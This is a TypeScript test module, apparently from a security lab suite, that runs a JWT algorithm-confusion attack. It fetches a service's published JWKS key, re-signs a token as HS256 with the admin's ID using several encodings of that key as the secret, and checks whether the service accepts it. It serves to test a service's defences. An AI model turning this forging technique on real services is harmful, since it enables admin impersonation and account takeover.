import { createPublicKey, type JsonWebKey } from 'node:crypto'
import { forged, partsOf } from '../lab/forge.js'
import type { Attack } from '../lab/attack.js'

export default {
  title: "Sign an admin's token with the published key",
  risk: 'API2',
  cwe: 327,
  concern: 'tokens',
  story: 'The service publishes the key by which its signatures are checked. Mallory signs with HS256 and takes this key for the secret: who lets the token choose the algorithm checks with just that.',
  defence: 'A key has one algorithm, and a header of another is not one of the service.',
  refusal: { status: 401, code: 'FST_BASTION_TOKENS_INVALID' },
  async run ({ step, must, ask, signIn, person }) {
    const mallory = await person()
    const { header, claims } = partsOf(mallory.token)
    const { id } = await signIn('admin')
    step('The published key')
    const { body: { keys } } = await must(ask('GET', '/.well-known/jwks.json'), 200)
    const secrets = keys.flatMap(textsOf)
    if (secrets.length === 0) throw new Error('no key is published')
    step("The admin's token, signed with it as each of the texts that it is written as")
    let decisive
    for (const secret of secrets) {
      decisive = await ask('GET', '/users/me', { token: forged({ ...header, alg: 'HS256' }, { ...claims, sub: id }, secret) })
      if (decisive.status === 200) break
    }
    const succeeded = decisive!.status === 200 && decisive!.body.username === 'admin'
    return { succeeded, decisive: decisive!, evidence: succeeded ? 'Signed with what everybody may read: the service greets the admin' : `Of ${secrets.length} published texts none is a secret` }
  },
} satisfies Attack

/** As programs keep it: PEM, with and without its last line end, DER, JSON, and the number itself. */
function textsOf (jwk: JsonWebKey): (string | Buffer)[] {
  const key = createPublicKey({ key: jwk, format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' }).toString()
  return [pem, pem.trim(), key.export({ type: 'spki', format: 'der' }), JSON.stringify(jwk), jwk.x ?? '', Buffer.from(jwk.x ?? '', 'base64url')]
}
